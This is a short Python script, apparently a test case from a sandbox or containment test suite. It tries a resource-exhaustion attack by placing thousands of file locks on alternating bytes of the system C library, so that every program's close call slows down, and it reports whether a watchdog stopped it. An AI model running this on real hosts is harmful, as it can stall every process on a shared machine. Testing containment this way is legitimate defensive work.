# attack: locks every second byte of a library that all programs of the machine open and close; each close walks the list of locks
# family: exhaustion
# walls: watchdog
# limits: --timeout 20s
# outcome: out_of_memory|failed|completed
# without: escaped
from attack import *
import fcntl
import struct
import time

F_OFD_SETLK, WANTED = 37, 4000
library = os.open(os.path.realpath("/usr/lib/x86_64-linux-gnu/libc.so.6"), os.O_RDONLY)


def lock(command, at):
    fcntl.fcntl(library, command, struct.pack("hhqqi4x", fcntl.F_RDLCK, 0, at, 1, 0))


open_description = attempt(lambda: lock(F_OFD_SETLK, 0))
count = 0
while count < WANTED and attempt(lambda: lock(fcntl.F_SETLK, count * 2 + 1)) is None:
    count += 1
# Time for a watch to look.
time.sleep(1)
if count == WANTED:
    escaped("%d locks, of an open file description: %s" % (count, open_description))
held("%d locks, of an open file description: %s" % (count, open_description))
